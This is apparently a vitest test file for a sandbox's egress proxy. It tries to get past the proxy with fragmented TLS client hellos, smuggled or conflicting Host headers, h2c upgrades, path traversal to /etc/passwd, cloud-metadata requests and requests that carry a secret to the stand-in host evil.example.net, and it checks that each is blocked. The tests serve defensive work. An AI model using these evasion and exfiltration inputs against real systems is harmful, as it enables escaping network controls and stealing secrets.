import { readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { npmHosts } from "../../src/network/mirror/registries/npm.ts";
import { textWith } from "../support/network/canary.ts";
import { createInside, type Inside, ways } from "../support/network/inside.ts";
import { PUBLIC } from "../support/network/internet.ts";
import { useMachine } from "../support/network/run-in.ts";

const machine = useMachine();
const seen = () => machine.internet.world.seen({ take: true });
let inside: Inside;
beforeAll(async () => {
  const argv = [
    "--allow-root",
    "--network",
    "api.example.com,other.example.com/open,cdn.example.net,registries:npm",
    "--secret",
    "KEY@api.example.com;from=env:RIG_CANARY",
  ];
  inside = await createInside(machine, argv, { env: { RIG_CANARY: machine.internet.canary } });
});
afterAll(() => inside.remove());

/**
 * Returns a script that speaks TLS to a host through a tunnel, as carefully or carelessly as `work` does. `c` is the
 * connection before TLS, and `hello(name)` returns the bytes of a client hello.
 */
const tunnelled = (work: string) => `
import os, socket, ssl, sys, time
def hello(name):
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try: ssl.create_default_context().wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def tunnel(host, port=443):
    c = socket.create_connection(("127.0.0.1", 19080), 5)
    c.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
    got = b""
    while b"\\r\\n\\r\\n" not in got: got += c.recv(1)
    assert b" 200 " in got, got
    return c
def secure(host): return ssl.create_default_context().wrap_socket(tunnel(host), server_hostname=host)
def rest(c):
    got = b""
    try:
        while True:
            piece = c.recv(65536)
            if not piece: return got
            got += piece
    except OSError: return got
key = os.environ.get("KEY", "")
${work}
`;
const python = async (work: string) => {
  const { code, stdout, stderr } = await inside.run(["python3", "-c", tunnelled(work)], { input: "" });
  expect(code, stdout + stderr).toBe(0);
  return stdout;
};

describe("a TLS hello that hides its server name", () => {
  const pieces: Record<string, string> = {
    "in one piece": "c.sendall(h)",
    "byte by byte": "[c.sendall(bytes([b])) for b in h]",
    "in two hundred pieces": "n = len(h) // 200 + 1; [c.sendall(h[i:i+n]) for i in range(0, len(h), n)]",
    "in many records": "c.sendall(b''.join(record(h, h[5:][i:i+7]) for i in range(0, len(h) - 5, 7)))",
    "the name across two records": "n = h.index(b'example') - 5; c.sendall(record(h, h[5:][:n]) + record(h, h[5:][n:]))",
    "behind an empty record": "c.sendall(record(h, b'') + h)",
  };
  /** Returns the server names that arrive when this is sent to a host that is allowed and not inspected. */
  const arriving = async (name: string, send: string) => {
    await seen();
    await python(`
def record(h, part): return h[0:3] + len(part).to_bytes(2, "big") + part
c, h = tunnel("cdn.example.net"), hello("${name}")
c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try: ${send}
except OSError: pass
c.settimeout(1)
try: print(c.recv(20))
except OSError as error: print(error)`);
    return (await seen()).hellos;
  };
  /** Servers may refuse these. We may refuse more than 256 pieces; the machine decides how many arrive together. */
  const mayBeRefused = ["behind an empty record", "byte by byte"];
  test.each(Object.entries(pieces))("%s", async (how, send) => {
    expect(await arriving("evil.example.net", send)).toEqual([]);
    if (!mayBeRefused.includes(how)) expect(await arriving("cdn.example.net", send)).toEqual(["cdn.example.net"]);
  });
});

describe("requests in an inspected tunnel", () => {
  test("do not arrive if they name another host or none, or are not HTTP", async () => {
    const refused = [
      "GET / HTTP/1.1\r\nHost: evil.example.net\r\nX: KEY\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\nX: KEY\r\n\r\n",
      "GET / HTTP/1.1\r\nX: KEY\r\n\r\n",
      "GET https://evil.example.net/ HTTP/1.1\r\nHost: api.example.com\r\nX: KEY\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: api.example.com\r\nX: KEY\nY: z\r\n\r\n",
      "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\n\r\n",
      "SSH-2.0-x\r\nKEY\r\n\r\n",
    ];
    await seen();
    const statusLines = await python(`
import json
for request in json.loads(${JSON.stringify(JSON.stringify([...refused, "GET /good HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n"]))}):
    s = secure("api.example.com"); s.settimeout(30); s.sendall(request.replace("KEY", key).encode()); print(rest(s)[:12].decode())`);
    expect(
      statusLines
        .trim()
        .split("\n")
        .map((line) => line.slice(9, 10)),
    ).toEqual([...refused.map(() => "4"), "2"]);
    expect((await seen()).requests.map(({ path }) => path)).toEqual(["/good"]);
  });

  test("are checked one by one, even after an allowed one", async () => {
    await seen();
    const two =
      "GET /open/1 HTTP/1.1\\r\\nHost: other.example.com\\r\\n\\r\\nGET /closed HTTP/1.1\\r\\nHost: other.example.com\\r\\nConnection: close\\r\\n\\r\\n";
    const responses = await python(`s = secure("other.example.com"); s.settimeout(30); s.sendall(b"${two}"); print(rest(s).decode())`);
    expect(responses).toMatch(/HTTP\/1\.1 200 [\s\S]*HTTP\/1\.1 403 /);
    expect((await seen()).requests.map(({ path }) => path)).toEqual(["/open/1"]);
  });

  test("cannot evade inspection by an upgrade to HTTP/2", async () => {
    await seen();
    const upgrade = "-H 'Upgrade: h2c' -H 'HTTP2-Settings: AAMAAABkAAQAAP__' -H 'Connection: Upgrade, HTTP2-Settings'";
    for (const url of ["http://api.example.com/", "https://api.example.com/"]) await inside.ok(`curl -sS --http1.1 ${upgrade} ${url}`);
    expect(await inside.ok("curl -sS --http2 -o /dev/null -w '%{http_version} %{http_code}' https://api.example.com/")).toBe("1.1 200");
    expect(JSON.stringify((await seen()).requests.map(({ headers }) => headers))).not.toMatch(/h2c|http2-settings/i);
  });
});

describe("a secret in an unexpected place", () => {
  test("stays a placeholder where a server would show or store it", async () => {
    await seen();
    const requests = [
      "GET /{key} HTTP/1.1\\r\\nHost: api.example.com",
      "GET /?q={key} HTTP/1.1\\r\\nHost: api.example.com",
      "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n{key}: x",
      "POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 40",
    ];
    for (const head of requests) {
      await python(
        `s = secure("api.example.com"); s.settimeout(30); s.sendall(f"${head}\\r\\nConnection: close\\r\\n\\r\\n".encode() + key.encode().ljust(40)[:40 if "POST" in "${head}" else 0]); print(rest(s)[:20])`,
      );
    }
    expect(textWith(JSON.stringify((await seen()).requests), machine.internet.canary)).toEqual([]);
  });

  test("is a placeholder again when a server sends it back in pieces or elsewhere", async () => {
    const response = await inside.ok(`curl -sSi -H "X-Key: $KEY" -H "X-Twice: $KEY $KEY" https://api.example.com/`);
    expect(textWith(response, machine.internet.canary)).toEqual([]);
    expect(response.match(/ghp_\w{36}/g)).toHaveLength(3);
    // The proxy requests the response uncompressed, to be able to search it.
    expect(response).not.toMatch(/"accept-encoding":"[^"]*gzip/);
  });

  test("nothing inside can sign for the sandbox's authority", async () => {
    // The machine's files in /etc may mention keys without containing one.
    const look = "grep -rls 'PRIVATE KEY' /run /tmp /home /workspace; grep -rlsE '^-----BEGIN [A-Z ]*PRIVATE KEY-----' /etc; true";
    const keys = await inside.run(["sh", "-c", `(${look}) 2>/dev/null`], { user: "root" });
    expect(keys.stdout.split("\n").filter((path) => !path.startsWith("/etc/ssl") && path !== "")).toEqual([]);
    const { stdout, stderr } = await inside.run(
      ["sh", "-c", "echo x > /run/caisson/ca.pem; rm -rf /run/caisson; mv /run/caisson /tmp/x; ls /run/caisson | wc -l"],
      { user: "root" },
    );
    expect(stderr).toMatch(/Read-only|not permitted|denied|busy/i);
    expect(Number(stdout)).toBeGreaterThan(3);
    const folder = join(machine.home, "sandboxes", inside.id);
    for (const name of readdirSync(folder).filter((each) => /^network/.test(each)))
      expect(statSync(join(folder, name)).mode & 0o077, name).toBe(0);
    expect(statSync(folder).mode & 0o077).toBe(0);
  });
});

describe("other ways out", () => {
  test("the proxy's ports cannot be taken over, even while no process serves them", async () => {
    const take =
      "import socket\nfor port in (19080,):\n  for a in ('127.0.0.1', '0.0.0.0'):\n    s = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)\n    try: s.bind((a, port)); s.listen(); print('took', port)\n    except OSError as e: print(e.errno)";
    const { servedBy } = JSON.parse((await machine.run(["net", "show", inside.id, "--json"])).stdout) as { servedBy: number };
    const script = `sleep 0.5; python3 -c "${take}"`;
    const trying = machine.start(["exec", "--sandbox", inside.id, "--user", "root", "--", "sh", "-c", `echo ready; ${script}`]);
    await trying.says(/ready/);
    process.kill(servedBy, "SIGKILL");
    expect((await trying.finished).stdout).toBe("ready\n98\n98\n");
  });

  test("the registry mirror contacts only the registries", async () => {
    await inside.ok("true");
    await seen();
    const targets = [
      "http://169.254.169.254/latest",
      "http://evil.example.net/",
      "/..%2f..%2f..%2fetc/passwd",
      "/../../etc/passwd",
      "//evil.example.net/x",
      "/@evil.example.net/x",
      "/http://evil.example.net/",
    ];
    const registry = `http://${npmHosts.npm}`;
    const answers = await inside.exchange(
      targets.map((target) => ({
        send: `GET ${target.startsWith("/") ? registry : ""}${target} HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n`,
      })),
    );
    for (const [index, { text }] of answers.entries()) {
      expect(text, targets[index]).toMatch(/^(HTTP\/1\.1 [45]|$)/);
      expect(text, targets[index]).not.toContain("root:");
    }
    const { connections, questions } = await seen();
    expect(connections.filter(({ address }) => /^(169|151|10)\./.test(address))).toEqual([]);
    expect(questions.filter(({ name }) => name.includes("evil"))).toEqual([]);
  });

  test("the network log escapes control characters from requests", async () => {
    const nasty = "GET http://evil.example.net/%1b%5b31m\x1b[31m HTTP/1.1\r\nHost: evil.example.net\r\n\r\n";
    await inside.exchange([
      { send: nasty },
      ways.request("evil.example.net", "/%1b[31m"),
      ways.request("evil.example.net", `/${"\x9b"}31m`),
      ways.tunnel("ev\x1b[31mil.example.net"),
    ]);
    const { stdout } = await machine.run(["net", "log", inside.id]);
    expect(stdout).toContain("denied");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for.
    expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
  });

  test("an invalid response is not forwarded", async () => {
    const bad = [
      "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
      "HTTP/1.1 200 OK\nX: y\n\n",
      "nonsense",
      "HTTP/1.1 200 OK\r\nX : y\r\n\r\n",
      "HTTP/1.1 99999 OK\r\n\r\n",
    ];
    for (const text of bad) {
      const [answer] = await inside.exchange([
        ways.request("api.example.com", `/raw?bytes=${encodeURIComponent(Buffer.from(text).toString("base64"))}`),
      ]);
      expect(answer?.text, text).toMatch(/^HTTP\/1\.1 502 /);
    }
  });

  test("a WebSocket works in a plain and in an inspected tunnel", async () => {
    const frames = `
def socket_to(c):
    c.settimeout(30)
    c.sendall(b"GET /ws HTTP/1.1\\r\\nHost: api.example.com\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n")
    got = b""
    while b"\\r\\n\\r\\n" not in got: got += c.recv(1)
    c.sendall(b"\\x81\\x85\\0\\0\\0\\0hello")
    return got.split()[1], c.recv(100)
print(socket_to(tunnel("api.example.com", 80)), socket_to(secure("api.example.com")))`;
    expect(await python(frames)).toBe("(b'101', b'\\x81\\x05hello') (b'101', b'\\x81\\x05hello')\n");
    expect((await seen()).connections.every(({ address }) => address === PUBLIC)).toBe(true);
  });
});
